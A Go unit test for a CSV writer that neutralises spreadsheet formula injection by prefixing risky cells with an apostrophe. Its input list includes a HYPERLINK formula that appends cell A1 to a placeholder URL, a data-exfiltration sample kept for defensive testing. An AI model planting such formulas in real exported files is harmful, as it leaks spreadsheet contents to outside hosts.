package safecsv

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// formula tells what a spreadsheet does with a cell it reads: a cell
// that begins with one of these is evaluated, unless an apostrophe
// before it marks it as text.
func formula(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

func TestEveryFormulaCellIsReadBackAsText(t *testing.T) {
	cells := []string{
		`=HYPERLINK("http://x/?"&A1,"ok")`, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
		"plain", "", "3", "2026-11-20T09:00:00Z", "a=b", "'already", "-1", "-2.5", "-", "-1.", "-1-1",
	}
	numbers := map[string]bool{"-1": true, "-2.5": true} // read as numbers, left as they are
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.Write(cells); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1 || len(rows[0]) != len(cells) {
		t.Fatalf("read back %q, want one row of %d cells", rows, len(cells))
	}
	for i, got := range rows[0] {
		if formula(got) && !numbers[got] {
			t.Errorf("cell %d reads back as a formula: %q", i, got)
		}
		want := cells[i]
		if formula(want) && !numbers[want] {
			want = "'" + want
		}
		if got != want {
			t.Errorf("cell %d: got %q, want %q", i, got, want)
		}
	}
}
